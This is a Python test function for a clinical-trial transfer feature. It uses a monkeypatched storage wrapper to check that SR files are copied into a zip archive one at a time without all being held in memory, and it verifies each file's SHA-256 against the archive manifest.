def test_a_transfers_srs_are_copied_into_its_zip_one_at_a_time(world, trial_read, monkeypatch):
    """A large trial's SRs are never all in memory at once: each is read from the image store when the manifest
    hashes it and again when the zip takes it, and let go before the next; the zip is written to a temporary
    file as it goes. (CPython frees a file's bytes as soon as nothing refers to them: counted here.)"""
    alive, most = set(), [0]

    class Read(bytes):
        def __del__(self):
            alive.discard(id(self))

    class Opened:
        def __init__(self, f):
            self.f = f

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.f.close()

        def read(self, *size):
            data = Read(self.f.read(*size))
            alive.add(id(data))
            most[0] = max(most[0], len(alive))
            return data

    class Images:
        def __init__(self, storage):
            self.storage = storage

        def open(self, key, mode="rb"):
            return Opened(self.storage.open(key, mode))

    monkeypatch.setattr(transfers, "image_storage", lambda: Images(image_storage()))
    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
    srs = [name for name in archive.namelist() if name.startswith("sr/")]
    assert len(srs) == 10 and most[0] <= 2, most  # the SR being copied (and a chunk of it), never all ten
    listed = {entry["path"]: entry["sha256"] for entry in json.loads(archive.read("manifest.json"))["files"]}
    assert all(hashlib.sha256(archive.read(name)).hexdigest() == listed[name] for name in srs)
